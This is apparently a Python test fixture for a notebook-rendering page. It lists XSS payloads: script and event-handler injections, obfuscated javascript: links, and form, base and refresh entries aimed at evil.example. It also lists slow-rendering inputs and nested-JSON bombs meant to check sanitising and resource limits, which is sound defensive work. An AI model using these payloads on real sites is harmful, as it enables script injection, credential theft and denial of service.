"""What people try on the pages that show a notebook, and on what reads and renders it."""

# Markdown that a page must not act on: in each, `alert(1)` or a request to http://evil.example.
ACTS = {
    "script": "<script>alert(1)</script>",
    "script after text": "An answer.\n\n<script>alert(1)</script>\n",
    "picture's event": "<img src=x onerror=alert(1)>",
    "link": "[my answer](javascript:alert(1))",
    "link in capitals": "[my answer](JaVaScRiPt:alert(1))",
    "link with a line break": "<a href='java&#10;script:alert(1)'>my answer</a>",
    "link with an entity": "<a href='&#106;avascript:alert(1)'>my answer</a>",
    "link to data": "[my answer](data:text/html,<script>alert(1)</script>)",
    "link in angle brackets": "<javascript:alert(1)>",
    "reference link": "[my answer]\n\n[my answer]: javascript:alert(1)",
    "svg": "<svg onload=alert(1)>",
    "svg's animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg in a picture's data": "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "title": "<title><img src=x onerror=alert(1)></title>",
    "textarea": "</textarea><script>alert(1)</script>",
    "mermaid": "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "fence's language": '```" onclick="alert(1)\nx\n```',
    "heading": "# <img src=x onerror=alert(1)>",
    "table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |\n",
    "picture's title": "![a](x.png '\" onerror=alert(1) x=\"')",
    "frame": "<iframe src='javascript:alert(1)'></iframe>",
    "frame's text": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "object": "<object data='javascript:alert(1)'></object>",
    "embedded": "<embed src='javascript:alert(1)'>",
    "base": "<base href='http://evil.example/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "style sheet": "<link rel=stylesheet href='http://evil.example/x.css'>",
    "style": "<style>@import 'http://evil.example/x.css'; * { display: none }</style>",
    "background": "<p style='background: url(http://evil.example/x.png)'>",
    "over the page": "<p style='position: fixed; top: 0; left: 0; width: 100%; z-index: 9'>",
    "form": "<form action='http://evil.example/'><input name=password autofocus onfocus=alert(1)>",
    "button": "<button formaction='javascript:alert(1)'>next</button>",
    "details": "<details open ontoggle=alert(1)>",
    "video": "<video><source onerror=alert(1)></video>",
    "body": "<body onload=alert(1)>",
    "MathJax's settings": "<script type='text/x-mathjax-config'>alert(1)</script>",
    "field of the page": "<p id=softmax_check class='score tabbable' data-link=x>",
}
# Texts that keep nbconvert or Pygments busy for seconds to hours.
STALLS = {
    "spaces": ("markdown", "a" + " " * 80_000 + "b"),
    "many spaces": ("markdown", "a" + " " * 1_000_000 + "b"),
    "environments": ("markdown", r"\begin{a}" * 8000),
    "formulas": ("markdown", r"\\(" * 16_000),
    "displayed formulas": ("markdown", r"\\[" * 16_000),
    "code's blank lines": ("code", " \n" * 20_000),
    "code of a megabyte": ("code", "x = 1\n" * 170_000),
    "raw text": ("raw", "<" * 150_000),
}
# Files whose text is small and whose notebook is not.
BOMBS = {
    "lists": "[" + "[[]]," * 6_000_000 + "1]",
    "objects": '{"cells": [' + '{"a":{}},' * 3_000_000 + "{}]}",
    "depth": "[" * 30_000_000,
}
HONEST = (
    "# Why softmax?\nEach row sums to **one**: $\\sum_j w_{ij} = 1$ for `i < L`, and 1 < 2 & 3 > 2."
    "\n\n"
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n- <b>first</b><br/>\n- [the paper](https://arxiv.org/abs/1706)"
    '\n\n<div class="alert alert-info">Note</div>\n\n```python\nif x < y: z = "<b>"\n```\n'
)
